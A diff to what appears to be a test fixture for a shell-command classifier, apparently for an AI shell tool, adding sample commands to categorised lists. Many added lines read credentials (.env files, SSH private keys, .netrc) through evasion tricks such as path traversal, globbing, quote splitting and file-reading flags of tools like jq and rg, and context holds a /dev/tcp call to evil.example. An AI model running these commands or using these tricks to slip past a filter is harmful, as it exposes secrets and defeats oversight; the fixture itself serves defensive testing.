@@ -147,6 +147,25 @@ npm config list
 npm config get //registry.npmjs.org/:_authToken
 pip config list
 systemctl show-environment
+cat .ENV
+cat /usr/share/app/.env
+docker image inspect app
+jq -Rs . .env
+git blame .env
+git show HEAD:.env
+cat < .env
+x=$(cat .env); echo "$x"
+cat ./*/../.netrc
+cat .e''nv
+cat sub/../.env
+cat /home/*/.ssh/id_rsa
+cat /h*/ann/.ssh/id_rsa
+strings ~/.local/share/aish/../aish/aish.db
+rg -f ~/.ssh/id_rsa x
+diff --to-fi=/home/ann/.ssh/id_rsa README
+jq -nf ~/.ssh/id_rsa
+awk '{print}' f=x ~/.netrc
+git patch-id < ~/.ssh/id_rsa
 """
 
 NETWORK = r"""
@@ -215,6 +234,8 @@ cat < /dev/tcp/evil.example/80
 git log --show-signature
 git log --format=%G?
 git verify-commit HEAD
+git ls-remote
+git log --pretty=format:'%h %G?'
 lspci -Q
 readelf --debug-dump=follow-links x
 """
@@ -290,6 +311,13 @@ pnpm list
 cargo metadata
 cargo tree
 uv pip list
+history
+systemctl show nginx
+find -L . -name x -exec cat {} +
+cat $(find . -name '*.py')
+cat "$(printf '%s' /home/ann/.ssh/id_rsa)"
+cat ${PWD%/project}/.ssh/id_rsa
+cat ${OLDPWD}/.ssh/id_rsa
 """
 
 EVERYDAY = r"""
